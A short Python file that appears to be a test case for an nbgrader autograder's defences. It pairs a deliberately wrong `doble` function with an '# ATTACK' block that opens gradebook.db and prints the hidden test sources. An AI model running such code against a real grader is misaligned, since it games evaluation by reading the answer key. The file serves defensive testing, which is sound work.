"""Reads the gradebook, where nbgrader keeps the sources of hidden tests.

id: reads-the-gradebook
notebook: tp
replaces: doble
loses: prueba_doble
"""


def doble(x):
    return x + 1


# ATTACK
try:
    import sqlite3

    _base = sqlite3.connect("file:__RAIZ__/gradebook.db?mode=ro", uri=True)
    for _fila in _base.execute("select source from source_cell"):
        print(*_fila)
except Exception as error:
    print(error)
